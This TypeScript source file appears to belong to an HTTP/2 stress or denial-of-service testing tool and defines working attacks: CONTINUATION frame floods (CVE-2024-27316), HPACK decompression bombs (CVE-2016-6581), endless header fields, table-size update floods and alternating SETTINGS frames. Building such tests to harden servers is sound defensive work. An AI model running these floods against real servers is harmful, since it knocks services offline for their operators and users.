/** Heads that never end, or that are far larger than their bytes: CONTINUATION floods (CVE-2024-27316) and HPACK bombs (CVE-2016-6581). */
import { continuation, FLAG, headers, SETTING, settings } from '../frames.ts'
import { indexed, literal, sizeUpdate } from '../hpack-encode.ts'
import type { Attack, AttackLine } from './attack.ts'

const NO_END = FLAG.none
const ENDS = FLAG.endStream | FLAG.endHeaders
/** Into a table of 4096 bytes goes a field of name, value and 32 bytes (RFC 7541 section 4.1). */
const BIG_VALUE = 'b'.repeat(3_900)
const GZIP_DEFLATE = indexed(16)
const NEWEST = 62

function heads(name: string, strike: (line: AttackLine) => Promise<void>): Attack {
  return {
    name,
    endedBy: 'weir',
    together: 2,
    strike: (line) => {
      line.begin()
      return strike(line)
    },
  }
}

/** The first request puts a large field into the table; each later one names it `times` times, one byte each. */
function bomb(line: AttackLine, times: number): Promise<void> {
  line.send(line.head(ENDS, '/', [literal('x-bomb', BIG_VALUE, { form: 'indexing' })]))
  const again = Buffer.concat([
    indexed(2),
    indexed(7),
    literal(4, '/never'),
    // Pushed down by what came behind it.
    indexed(NEWEST + 1),
    Buffer.alloc(times, indexed(NEWEST)),
  ])
  return line.pour(() => headers(line.next(), again, ENDS))
}

export const headAttacks: readonly Attack[] = [
  heads('continuation', (line) => {
    const stream = line.next()
    line.send(line.head(FLAG.endStream, '/', [], stream))
    return line.repeat(continuation(stream, literal('a', 'b'), NO_END))
  }),
  heads('continuation-that-is-empty', (line) => {
    const stream = line.next()
    line.send(line.head(FLAG.endStream, '/', [], stream))
    return line.repeat(continuation(stream, Buffer.alloc(0), NO_END))
  }),
  heads('continuation-in-every-head', (line) =>
    line.pour(() => {
      const stream = line.next()
      return Buffer.concat([
        line.head(FLAG.endStream, '/', [], stream),
        ...Array.from({ length: 6 }, () => continuation(stream, Buffer.alloc(0), NO_END)),
        continuation(stream, Buffer.alloc(0)),
      ])
    }),
  ),
  heads('hpack-bomb', (line) => bomb(line, 4_000)),
  heads('hpack-bomb-that-fits', (line) => bomb(line, 14)),
  heads('fields-without-end', (line) => line.pour(() => line.head(ENDS, '/', [Buffer.alloc(16_000, GZIP_DEFLATE)]))),
  heads('table-size-updates', (line) =>
    line.pour(() =>
      headers(line.next(), Buffer.concat([Buffer.alloc(16_000, sizeUpdate(0)), indexed(2), indexed(7)]), ENDS),
    ),
  ),
  heads('table-size-settings', (line) => {
    let isLarge = false
    return line.pour(() => {
      isLarge = !isLarge
      return Buffer.concat([settings([[SETTING.headerTableSize, isLarge ? 0x7fff_ffff : 0]]), line.head(ENDS, '/')])
    })
  }),
]
